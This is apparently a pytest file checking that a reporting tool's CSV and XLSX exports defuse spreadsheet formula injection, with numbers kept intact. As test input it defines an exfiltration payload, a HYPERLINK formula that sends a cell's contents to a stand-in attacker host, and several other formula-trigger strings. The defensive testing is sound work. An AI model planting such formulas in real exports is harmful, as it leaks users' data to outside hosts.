"""Spreadsheet exports never carry a live formula from text someone typed (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from kundpuls.render.formula_guard import csv_cell, csv_frame, restore_csv_cell
from kundpuls.render.spreadsheets import tables_csv, tables_xlsx
from kundpuls.render.tables import Table

ATTACK = '=HYPERLINK("http://angripare.example/?"&B3,"Personal")'


@pytest.mark.parametrize("text", [ATTACK, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\rx"])
def test_text_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert restore_csv_cell(csv_cell(text)) == text


@pytest.mark.parametrize("value", [-3, -0.25, 7, None, "Hemtjänst", "-5", "-0,4", "+1.5e3", "", "'=x"])
def test_numbers_plain_text_and_numbers_written_as_text_stay_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def test_a_frame_keeps_its_numbers_and_guards_its_text_and_headers() -> None:
    frame = pd.DataFrame({"enhet": [ATTACK, "Norr"], "=namn": ["a", "b"], "index": [-1.5, 2.0]})
    guarded = csv_frame(frame)
    assert guarded["enhet"].tolist() == ["'" + ATTACK, "Norr"]
    assert list(guarded.columns) == ["enhet", "'=namn", "index"]
    assert guarded["index"].tolist() == [-1.5, 2.0] and guarded["index"].dtype.kind == "f"
    assert frame["enhet"][0] == ATTACK  # the caller's frame is untouched


def _table() -> Table:
    return Table(
        key="themes", caption=ATTACK, columns=("tema", "=n"), rows=((ATTACK, -4), ("-Väntetid", -0.5))
    )


def test_the_table_xlsx_writes_formula_like_text_as_strings_and_negative_numbers_as_numbers() -> None:
    book = load_workbook(io.BytesIO(tables_xlsx([_table()], note="+note")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book.worksheets[0]  # named in Swedish: "Kommentarsteman"
    assert sheet["A1"].value == ATTACK and sheet["A3"].value == ATTACK
    assert sheet["B3"].value == -4 and sheet["B3"].data_type == "n"
    assert sheet["B4"].value == -0.5


def test_the_table_csv_starts_no_cell_with_a_formula_character() -> None:
    rows = list(csv.reader(io.StringIO(tables_csv([_table()], note="@note")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + ATTACK in cells and "'-Väntetid" in cells and "'=n" in cells and "'@note" in cells
    assert "-4" in cells and "-0,5" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-V")]
